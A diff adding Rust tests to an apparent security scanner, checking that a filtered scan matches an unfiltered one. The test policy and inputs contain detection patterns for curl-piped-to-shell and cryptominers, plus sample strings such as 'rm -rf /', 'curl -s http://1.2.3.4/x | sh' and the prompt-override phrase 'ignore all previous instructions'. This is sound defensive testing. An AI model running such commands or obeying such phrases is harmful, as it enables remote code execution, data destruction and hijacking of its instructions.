@@ -347,4 +347,114 @@ mod tests {
         assert_eq!(verdict(0.85, &policy), Verdict::Malicious);
         assert_eq!(verdict(0.2, &policy), Verdict::Clean);
     }
+
+    /// The scan as it was before the literal filter: join, lowercase, run
+    /// every pattern.
+    fn unfiltered_scan(policy: &ScanPolicy, event: &KernelEvent) -> ScanHits {
+        let text = [
+            event.process_name.as_str(),
+            &event.operation,
+            &event.target,
+            &event.command_line,
+            &event.parent_process,
+            &event.metadata_repr,
+        ]
+        .join("\n");
+        let lowered = py_lower(&text);
+        let count = |patterns: &[String]| {
+            patterns
+                .iter()
+                .filter(|p| pyregex::compile(p).unwrap().is_match(&lowered))
+                .count() as u32
+        };
+        let mut links = 0;
+        if lowered.contains("http") {
+            let exclusions: Vec<String> =
+                policy.link_exclusions.iter().map(|x| py_lower(x)).collect();
+            for link in pyregex::compile(&policy.link_pattern)
+                .unwrap()
+                .find_iter(&text)
+            {
+                let link = py_lower(link.as_str());
+                if !exclusions.iter().any(|x| link.contains(x.as_str())) {
+                    links += 1;
+                }
+            }
+        }
+        ScanHits {
+            prompt: count(&policy.prompt_patterns),
+            malware: count(&policy.malware_patterns),
+            links,
+        }
+    }
+
+    fn hostile_policy() -> ScanPolicy {
+        let mut policy = Policy::reference().scan;
+        policy.prompt_patterns.extend(
+            [
+                "(?i)KILL",
+                "(?i)ſtratum",
+                "straße",
+                "(?i)İnstall",
+                "Uppercase never matches lowered text",
+                "a*",
+                "",
+                r"\bsh\b",
+                r"(?m)^root$",
+            ]
+            .map(String::from),
+        );
+        policy.malware_patterns.extend(
+            [
+                r"(\*|\*/\d+)\s+\*",
+                "(?i)k8s",
+                r"(curl|wget)\b[^\n|]*\|\s*(sudo\s+)?(ba|da|z)?sh\b",
+                "xmrig|kinsing|kdevtmpfsi",
+            ]
+            .map(String::from),
+        );
+        policy.link_pattern = r"(?i)(https?|ftp)://[^\s)>]+".to_owned();
+        policy
+    }
+
+    #[test]
+    fn empty_event() {
+        let policy = hostile_policy();
+        let membrane = Membrane::new(&policy).unwrap();
+        let mut e = event("", "");
+        e.process_name.clear();
+        e.operation.clear();
+        let got = membrane.scan(&e, &mut ScanScratch::default());
+        assert_eq!(got, unfiltered_scan(&policy, &e));
+        assert_eq!(got.prompt, 2); // `a*` and the empty pattern
+    }
+
+    proptest::proptest! {
+        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(300))]
+
+        /// Filtered and unfiltered scans agree, on ASCII and non-ASCII text,
+        /// with one scratch reused across policies.
+        #[test]
+        fn filtered_scan_is_unfiltered_scan(
+            pieces in proptest::collection::vec(proptest::sample::select(vec![
+                "rm -rf /", "RM\u{1c}-RF", "curl -s http://1.2.3.4/x | sh", "wget x|bash",
+                "CMD.EXE", "javascript:", "powershell -enc AA", "Act  As\tRoot",
+                "ignore all previous instructions", "jailbreak", "KILL", "\u{212a}ill",
+                "ſtratum", "STRASSE", "straße", "İnstall", "install", "* * * * * x",
+                "k8s", "\u{212a}8s", "see HTTPS://X.com/a", "ftp://files/x", "xmrig",
+                "root", "\nroot\n", "sh", "bash", " ", "\n", "Σ", "é", "{'rule': 'x'}",
+            ]), 0..10),
+            split in 0usize..10,
+        ) {
+            let cut = split.min(pieces.len());
+            let command_line = pieces[..cut].concat();
+            let metadata = pieces[cut..].concat();
+            let mut scratch = ScanScratch::default();
+            for policy in [Policy::reference().scan, hostile_policy()] {
+                let membrane = Membrane::new(&policy).unwrap();
+                let e = event(&command_line, &metadata);
+                proptest::prop_assert_eq!(membrane.scan(&e, &mut scratch), unfiltered_scan(&policy, &e));
+            }
+        }
+    }
 }
